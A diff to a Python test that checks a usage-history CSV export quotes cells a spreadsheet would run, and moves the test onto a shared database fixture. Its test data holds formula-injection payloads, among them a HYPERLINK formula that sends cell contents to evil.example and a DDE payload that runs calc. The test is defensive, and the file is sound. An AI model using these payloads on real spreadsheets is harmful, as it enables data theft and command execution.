@@ -8,27 +8,16 @@ import csv
 import io
 import time
 from types import SimpleNamespace
-from typing import Any, AsyncIterator
+from typing import Any
 
-import pytest
 from sqlalchemy.ext.asyncio import AsyncEngine
 
 from darkbloom.coordinator.money.usage_history import CSV_COLUMNS, csv_lines
-from darkbloom.store import accounts, create_engine, migrate
+from darkbloom.store import accounts
 from darkbloom.store.schema import usage_records
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"refund")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
             "\t=1+1", "\r=1+1"]
-
-
-@pytest.fixture
-async def sqlite_engine(sqlite_url: str) -> AsyncIterator[AsyncEngine]:
-    engine = create_engine(sqlite_url)
-    await migrate(engine)
-    try:
-        yield engine
-    finally:
-        await engine.dispose()
 
 
 async def _usage_row(engine: AsyncEngine, account_id: str, number: int, **fields: Any) -> None:
@@ -48,15 +37,15 @@ async def _exported(engine: AsyncEngine, account_id: str) -> list[dict[str, str]
     return [dict(zip(header, row)) for row in rows]
 
 
-async def test_a_cell_a_spreadsheet_would_run_is_prefixed_with_a_quote(sqlite_engine: AsyncEngine) -> None:
-    async with sqlite_engine.begin() as conn:
+async def test_a_cell_a_spreadsheet_would_run_is_prefixed_with_a_quote(engine: AsyncEngine) -> None:
+    async with engine.begin() as conn:
         account_id = await accounts.create_account(conn, "csv@example.com", "hash")
     for number, formula in enumerate(FORMULAS):
-        await _usage_row(sqlite_engine, account_id, number, model=formula)
-    await _usage_row(sqlite_engine, account_id, 90, request_id="=req", provider_id="+prov", routed="@shared",
+        await _usage_row(engine, account_id, number, model=formula)
+    await _usage_row(engine, account_id, 90, request_id="=req", provider_id="+prov", routed="@shared",
                      share_id="-share")
-    await _usage_row(sqlite_engine, account_id, 91, model="owner/name", cost_micro_usd=0, self_routed=True)
-    rows = await _exported(sqlite_engine, account_id)
+    await _usage_row(engine, account_id, 91, model="owner/name", cost_micro_usd=0, self_routed=True)
+    rows = await _exported(engine, account_id)
     plain, every_column, *formulas = rows  # newest first
     assert [row["model"] for row in reversed(formulas)] == ["'" + formula for formula in FORMULAS]
     assert (every_column["request_id"], every_column["provider_id"], every_column["routed"],
